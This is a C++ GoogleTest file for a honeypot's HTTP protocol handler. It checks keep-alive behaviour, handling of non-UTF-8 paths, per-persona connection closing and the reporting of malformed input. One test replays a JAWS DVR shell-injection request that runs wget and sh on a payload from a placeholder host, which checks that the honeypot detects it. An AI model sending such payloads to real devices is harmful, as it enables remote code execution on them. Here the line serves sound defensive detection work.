#include <string>
#include <thread>
#include <vector>

#include <gtest/gtest.h>

#include <boost/asio/read.hpp> // after common/asio.h (its <utility> fix)

#include "common/event_tap.h"
#include "honeypot/http/http_event.h"
#include "honeypot/http/http_protocol.h"
#include "support/base64_decode.h"

namespace kansoku::honeypot::http {
namespace {

namespace asio = boost::asio;
using asio::ip::tcp;

struct Seen {
    server::SessionInfo session;
    HttpRequestRecord request;
    std::vector<RuleMatch> matches;
    std::vector<ExtractedUrl> urls;
};

class RecordingObserver final : public HttpObserver {
public:
    void onRequest(const server::SessionInfo& session, const HttpRequestRecord& request,
                   const std::vector<RuleMatch>& matches, const std::vector<ExtractedUrl>& urls) override {
        seen.push_back(Seen{session, request, matches, urls});
    }
    std::vector<Seen> seen;
};

/// A SessionServer with HttpProtocol on loopback, run on its own thread; clients are blocking sockets.
class HttpProtocolTest : public ::testing::Test {
protected:
    void start(const std::string& persona_file) {
        auto persona = HttpPersona::load(std::string(KANSOKU_SOURCE_DIR) + "/rules/http/personas/" + persona_file);
        ASSERT_TRUE(persona) << persona.error().message;
        persona_ = std::move(*persona);
        auto rules = HttpRuleSet::loadDirectory(std::string(KANSOKU_SOURCE_DIR) + "/rules/http");
        ASSERT_TRUE(rules) << rules.error().message;
        rules_ = std::move(*rules);
        service_.persona = &persona_;
        service_.rules = &rules_;
        service_.observer = &observer_;
        service_.clock = [] { return Timestamp{1'700'000'000'000'000}; };
        server::ServerConfig config;
        config.service = "http";
        config.sensor = "test";
        config.limits.idle_timeout = std::chrono::seconds(5);
        server_ = std::make_unique<server::SessionServer>(io_, config, makeHttpProtocolFactory(service_), sink_);
        auto started = server_->start();
        ASSERT_TRUE(started) << started.error().message;
        thread_ = std::thread([this] { io_.run(); });
    }
    void TearDown() override {
        if (thread_.joinable()) {
            asio::post(io_, [this] { server_->stop(); });
            thread_.join();
        }
    }
    void stopServer() {
        asio::post(io_, [this] { server_->stop(); });
        thread_.join();
    }

    tcp::socket connect() {
        tcp::socket socket(client_io_);
        socket.connect(tcp::endpoint(asio::ip::make_address("127.0.0.1"), server_->localPort()));
        return socket;
    }
    static void send(tcp::socket& socket, const std::string& text) { asio::write(socket, asio::buffer(text)); }
    /// Reads one response (headers + Content-Length body) from `buffer`/socket.
    static std::string readResponse(tcp::socket& socket, std::string& buffer) {
        size_t end = asio::read_until(socket, asio::dynamic_buffer(buffer), "\r\n\r\n");
        std::string head = buffer.substr(0, end);
        size_t at = head.find("Content-Length: ");
        size_t length = at == std::string::npos ? 0 : std::stoul(head.substr(at + 16));
        if (buffer.size() < end + length) {
            asio::read(socket, asio::dynamic_buffer(buffer), asio::transfer_exactly(end + length - buffer.size()));
        }
        std::string response = buffer.substr(0, end + length);
        buffer.erase(0, end + length);
        return response;
    }
    /// True if the server closed the connection (EOF) with nothing more to read.
    static bool closedByServer(tcp::socket& socket) {
        char byte = 0;
        boost::system::error_code ec;
        size_t n = socket.read_some(asio::buffer(&byte, 1), ec);
        return n == 0 && (ec == asio::error::eof || ec == asio::error::connection_reset);
    }

    asio::io_context io_;
    asio::io_context client_io_;
    CollectingSink sink_;
    HttpPersona persona_;
    HttpRuleSet rules_;
    RecordingObserver observer_;
    HttpService service_;
    std::unique_ptr<server::SessionServer> server_;
    std::thread thread_;
};

TEST_F(HttpProtocolTest, KeepAliveThenExploitThenClose) {
    start("hisilicon-dvr.toml");
    auto socket = connect();
    std::string buffer;
    send(socket, "GET /login.htm HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
    std::string first = readResponse(socket, buffer);
    EXPECT_EQ(first.rfind("HTTP/1.1 200 OK\r\n", 0), 0u) << first;
    EXPECT_NE(first.find("Connection: keep-alive"), std::string::npos);
    // The exploit, split in two writes, asking to close.
    send(socket, "GET /shell?cd+/tmp;wget+http://198.51.100.9/jaws;sh+/tmp/jaws HTTP/1.1\r\nHo");
    send(socket, "st: 127.0.0.1\r\nConnection: close\r\n\r\n");
    std::string second = readResponse(socket, buffer);
    EXPECT_EQ(second.rfind("HTTP/1.1 404 ", 0), 0u) << second;
    EXPECT_NE(second.find("Connection: close"), std::string::npos);
    EXPECT_TRUE(closedByServer(socket));
    stopServer();

    ASSERT_EQ(observer_.seen.size(), 2u);
    EXPECT_EQ(observer_.seen[0].request.path, "/login.htm");
    EXPECT_TRUE(observer_.seen[0].matches.empty());
    const Seen& exploit = observer_.seen[1];
    EXPECT_EQ(exploit.session.src, "127.0.0.1");
    EXPECT_EQ(exploit.session.dst_port, server_->localPort());
    std::vector<std::string> ids;
    for (const auto& m : exploit.matches) {
        ids.push_back(m.id);
    }
    EXPECT_NE(std::find(ids.begin(), ids.end(), "http-jaws-mvpower-dvr-shell-cve-2016-20016"), ids.end());
    ASSERT_EQ(exploit.urls.size(), 1u);
    EXPECT_EQ(exploit.urls[0].url, "http://198.51.100.9/jaws");

    Event event = makeHttpRequestEvent(exploit.session, exploit.request, exploit.matches, exploit.urls, "test", 0);
    tapEvent(event);
    auto j = event.toJson();
    EXPECT_EQ(j["path"], "/shell");
    EXPECT_EQ(j["urls"][0]["tool"], "wget");
    // The server's own honeypot.session event.
    ASSERT_EQ(sink_.events.size(), 1u);
    EXPECT_EQ(sink_.events[0].type, "honeypot.session");
}

// Issue 10: a request path whose bytes are not UTF-8, over a real socket, reaches the event as
// valid UTF-8 with `path_b64` holding exactly the bytes sent.
TEST_F(HttpProtocolTest, PathBytesThatAreNotUtf8AreKeptExactlyInPathB64) {
    start("hisilicon-dvr.toml");
    const std::string path = "/cgi-bin/\x80\xc3\x28.cgi";
    auto socket = connect();
    std::string buffer;
    send(socket, "GET " + path + " HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Bin\xfe: v\xff\r\nConnection: close\r\n\r\n");
    readResponse(socket, buffer);
    stopServer();
    ASSERT_EQ(observer_.seen.size(), 1u);
    const Seen& seen = observer_.seen[0];
    const Event event = makeHttpRequestEvent(seen.session, seen.request, seen.matches, seen.urls, "test", 0);
    tapEvent(event);
    const auto j = event.toJson();
    EXPECT_EQ(j["path"], "/cgi-bin/\xEF\xBF\xBD\xEF\xBF\xBD(.cgi");
    EXPECT_EQ(kansoku::testing::base64Decode(j["path_b64"].get<std::string>()), path);
    EXPECT_FALSE(j.contains("method_b64"));
    const auto& header = j["headers_b64"]["X-Bin\xEF\xBF\xBD"];
    EXPECT_EQ(kansoku::testing::base64Decode(header["name"].get<std::string>()), "X-Bin\xfe");
    EXPECT_EQ(kansoku::testing::base64Decode(header["value"].get<std::string>()), "v\xff");
    EXPECT_NO_THROW((void)j.dump()); // strict: every string is valid UTF-8
}

TEST_F(HttpProtocolTest, EmbeddedServerClosesAfterEachAnswer) {
    start("tplink-wr841n.toml");
    auto socket = connect();
    std::string buffer;
    send(socket, "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /second HTTP/1.1\r\nHost: a\r\n\r\n");
    std::string response = readResponse(socket, buffer);
    EXPECT_EQ(response.rfind("HTTP/1.1 401 Unauthorized\r\n", 0), 0u) << response;
    EXPECT_TRUE(buffer.empty());
    EXPECT_TRUE(closedByServer(socket));
    stopServer();
    ASSERT_EQ(observer_.seen.size(), 1u); // the pipelined second request is not read
    EXPECT_EQ(server_->counters().closed_by_protocol, 1u);
}

TEST_F(HttpProtocolTest, GarbageUntilPeerCloseIsStillReported) {
    start("hisilicon-dvr.toml");
    auto socket = connect();
    send(socket, std::string("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 11));
    socket.shutdown(tcp::socket::shutdown_send);
    EXPECT_TRUE(closedByServer(socket));
    stopServer();
    ASSERT_EQ(observer_.seen.size(), 1u);
    EXPECT_TRUE(observer_.seen[0].request.malformed);
    EXPECT_FALSE(observer_.seen[0].request.complete);
    EXPECT_NE(observer_.seen[0].request.reason.find("binary_request_line"), std::string::npos);
}

} // namespace
} // namespace kansoku::honeypot::http
